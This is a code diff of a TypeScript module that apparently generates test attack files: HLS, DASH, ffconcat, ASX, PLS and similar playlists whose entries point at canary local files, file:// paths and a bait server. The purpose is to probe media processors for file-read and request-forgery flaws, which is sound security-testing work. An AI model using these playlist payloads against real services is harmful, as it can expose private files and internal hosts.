@@ -13,7 +13,7 @@ import {
   u32,
 } from './attack.ts'
 
-const targets = (bait: Bait): string[] => [
+const addresses = (bait: Bait): string[] => [
   canary(bait, 'ts'),
   `file://${canary(bait, 'ts')}`,
   `${bait.url}/a.ts`,
@@ -28,7 +28,7 @@ const targets = (bait: Bait): string[] => [
   `async:cache:${bait.url}/d.ts`,
 ]
 const playlist = (bait: Bait) =>
-  `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:10\n#EXT-X-KEY:METHOD=AES-128,URI="${bait.url}/key"\n#EXT-X-MAP:URI="${canary(bait, 'ts')}"\n${targets(
+  `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:10\n#EXT-X-KEY:METHOD=AES-128,URI="${bait.url}/key"\n#EXT-X-MAP:URI="${canary(bait, 'ts')}"\n${addresses(
     bait,
   )
     .map(target => `#EXTINF:1,\n${target}\n`)
@@ -38,31 +38,31 @@ const playlist = (bait: Bait) =>
 const lists: Record<string, Attack['bytes']> = {
   'a playlist': playlist,
   'a playlist of playlists': bait =>
-    `#EXTM3U\n${targets(bait)
+    `#EXTM3U\n${addresses(bait)
       .map(target => `#EXT-X-STREAM-INF:BANDWIDTH=1\n${target}\n`)
       .join('')}`,
   'a list of files to join': bait =>
-    `ffconcat version 1.0\n${targets(bait)
+    `ffconcat version 1.0\n${addresses(bait)
       .map(target => `file '${target}'\n`)
       .join('')}`,
   'a description of a session': bait =>
     `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio ${bait.udpPort} RTP/AVP 0\n`,
   'a manifest of DASH': bait =>
-    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">${targets(bait)
+    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">${addresses(bait)
       .map(
         target =>
           `<Period><AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>${target}</BaseURL></Representation></AdaptationSet></Period>`,
       )
       .join('')}</MPD>`,
   'a manifest of Smooth Streaming, and a reference of Windows Media': bait =>
-    `<ASX version="3.0">${targets(bait)
+    `<ASX version="3.0">${addresses(bait)
       .map(target => `<Entry><Ref href="${target}"/></Entry>`)
       .join('')}</ASX>`,
   'a reference of RealMedia and of Winamp': bait =>
-    `[playlist]\n${targets(bait)
+    `[playlist]\n${addresses(bait)
       .map((target, n) => `File${n + 1}=${target}\n`)
       .join('')}NumberOfEntries=12\n`,
-  'a list of pictures': bait => `RTSPtext\n${targets(bait).join('\n')}`,
+  'a list of pictures': bait => `RTSPtext\n${addresses(bait).join('\n')}`,
 }
 
 const chunk = (type: string, ...data: (Uint8Array | string)[]) => {
@@ -234,7 +234,10 @@ const plain = {
 
 export const mediaAttacks: Attack[] = heavy(
   [
-    ...Object.entries(plain).flatMap(([source, first]) => attacksOn(source, lists, { targets: first })),
+    ...Object.entries(plain).flatMap(([source, targets], index) =>
+      // One program reads them all, so that an ordinary run sends two of the lists under each name.
+      attacksOn(source, lists, { targets }).map((attack, n) => ({ ...attack, heavy: (n + index) % 4 > 0 })),
+    ),
     ...attacksOn('avi', { 'subtitles that are a playlist': subtitled }),
     ...attacksOn('wav', waves),
     ...attacksOn('mp3', mp3s, { targets: ['wav', 'm4a'] }),
